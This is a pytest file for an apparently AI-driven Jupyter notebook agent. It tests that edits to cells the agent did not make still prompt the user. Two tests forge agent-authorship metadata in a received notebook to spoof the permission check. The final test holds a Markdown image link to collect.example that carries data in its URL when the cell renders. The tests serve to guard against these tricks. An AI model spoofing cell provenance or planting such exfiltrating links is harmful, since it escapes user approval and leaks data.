"""Which notebook_edit calls ask each time although notebook_edit is allowed: a replace or move of a
cell the agent did not make in this session (:mod:`nbagent.notebook.document.edit_rules`)."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest

from nbagent.engine.contracts.permissions import PermissionGate
from nbagent.notebook.document.bridge import Bridge
from nbagent.notebook.document.removal import ORIGIN
from nbagent.notebook.document.tools import NotebookTools

from .fake_frontend import FakeFrontEnd
from .test_notebook_tools import call


async def _allow(*_args: Any) -> Any:
    from nbagent.engine.contracts.permissions import Allow

    return Allow()


def _allowed() -> PermissionGate:
    """notebook_edit allowed (the allow list, ``--allow``), a user there to ask."""
    return PermissionGate(_allow, allow=["notebook_edit"])


@pytest.fixture
def front() -> FakeFrontEnd:
    return FakeFrontEnd([{"cell_type": "markdown", "source": "# Sales"},
                         {"cell_type": "code", "source": "x = 40", "outputs": []}])


@pytest.fixture
def tools(front: FakeFrontEnd) -> dict[str, Any]:
    return {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S1").tools()}


async def test_a_cell_the_agent_inserted_and_the_user_then_rewrote_is_the_users_and_asks(front, tools, tmp_path: Path):
    # The model inserted a cell; the user then typed their own code into it; the model read it again.
    # The cell's mark still says "new" (nbagent's): its stamp says the text is no longer what was made.
    await call(tools, "notebook_read", tmp_path)
    inserted = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c2", source="y = 1")
    new_id = inserted.content.split()[3]
    cell = next(c for c in front.cells if c["id"] == new_id)
    cell["source"] = "secret_model = train(everything)  # the user's own work now"
    await call(tools, "notebook_read", tmp_path)
    rewrite = {"action": "replace", "cell_id": new_id, "source": "y = 2"}
    assert _allowed().will_ask(tools["notebook_edit"], rewrite)


async def test_a_received_cell_whose_mark_claims_the_agent_made_it_asks(tools, front, tmp_path: Path):
    # A received notebook's cell carries nbagent's mark, stamp and all (anyone can write metadata, and
    # the stamp is a hash of the text): nothing says this kernel's agent made it.
    source = "x = 40"
    front.cells[1]["metadata"]["nbagent"] = {
        "origin": ORIGIN, "kind": "new", "session": "someone-elses", "turn": 1, "tool_use_id": "t",
        "made": {"cell_id": "c2", "source_sha256": hashlib.sha256(source.encode()).hexdigest()}}
    await call(tools, "notebook_read", tmp_path)
    edits: list[dict[str, Any]] = [{"action": "replace", "cell_id": "c2", "source": "x = 0"},
                                   {"action": "move", "cell_id": "c2", "index": 0}]
    for edit in edits:
        assert _allowed().will_ask(tools["notebook_edit"], edit), edit


async def test_the_agents_own_cell_read_back_unchanged_keeps_the_allowance(tools, tmp_path: Path):
    await call(tools, "notebook_read", tmp_path)
    inserted = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c2", source="y = 1")
    new_id = inserted.content.split()[3]
    await call(tools, "notebook_read", tmp_path)
    assert not _allowed().will_ask(tools["notebook_edit"], {"action": "replace", "cell_id": new_id, "source": "y = 2"})


async def test_the_agents_own_cell_it_already_rewrote_keeps_the_allowance(tools, tmp_path: Path):
    # A fix loop on the agent's own cell under --allow notebook_edit: insert, run, replace, run,
    # replace again. Its first replace marked the cell "edit", and every later replace asked, read
    # again or not (the docs: edits of the cells the agent made keep the allowance).
    await call(tools, "notebook_read", tmp_path)
    inserted = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c2", source="y = 1")
    new_id = inserted.content.split()[3]
    await call(tools, "notebook_edit", tmp_path, action="replace", cell_id=new_id, source="y = 2")
    again = {"action": "replace", "cell_id": new_id, "source": "y = 3"}
    assert not _allowed().will_ask(tools["notebook_edit"], again)
    await call(tools, "notebook_read", tmp_path)
    assert not _allowed().will_ask(tools["notebook_edit"], again)


async def test_a_users_cell_the_agent_rewrote_stays_the_users(tools, tmp_path: Path):
    await call(tools, "notebook_read", tmp_path)
    await call(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    again = {"action": "replace", "cell_id": "c2", "source": "x = 42"}
    assert _allowed().will_ask(tools["notebook_edit"], again)
    await call(tools, "notebook_read", tmp_path)
    assert _allowed().will_ask(tools["notebook_edit"], again)


async def test_a_received_cell_claiming_an_in_memory_sessions_mark_asks(front, tmp_path: Path):
    # A session kept in memory (not recorded) has one name in every kernel, "(in memory)": a received
    # notebook's cell can carry it, with a stamp anyone can compute. Only a cell this session made counts.
    tools = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "(in memory)").tools()}
    source = "x = 40"
    front.cells[1]["metadata"]["nbagent"] = {
        "origin": ORIGIN, "kind": "new", "session": "(in memory)", "turn": 1, "tool_use_id": "t",
        "made": {"cell_id": "c2", "source_sha256": hashlib.sha256(source.encode()).hexdigest()}}
    await call(tools, "notebook_read", tmp_path)
    assert _allowed().will_ask(tools["notebook_edit"], {"action": "replace", "cell_id": "c2", "source": "x = 0"})
    inserted = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c2", source="y = 1")
    new_id = inserted.content.split()[3]
    await call(tools, "notebook_read", tmp_path)  # its own cell, read back: still its own
    assert not _allowed().will_ask(tools["notebook_edit"], {"action": "replace", "cell_id": new_id, "source": "y = 2"})


async def test_a_replace_of_the_users_cell_with_markdown_that_loads_from_the_web_says_both(tools, tmp_path: Path):
    # The card's reason named only "a cell the agent did not make": the warning that the new Markdown
    # loads from a host when it renders (an image's URL can carry data out) was dropped.
    await call(tools, "notebook_read", tmp_path)
    pixel = {"action": "replace", "cell_id": "c2", "cell_type": "markdown",
             "source": "![chart](https://collect.example/c.png?d=412000)"}
    reason = _allowed().protected_reason(tools["notebook_edit"], pixel) or ""
    assert "did not make" in reason and "collect.example" in reason, reason
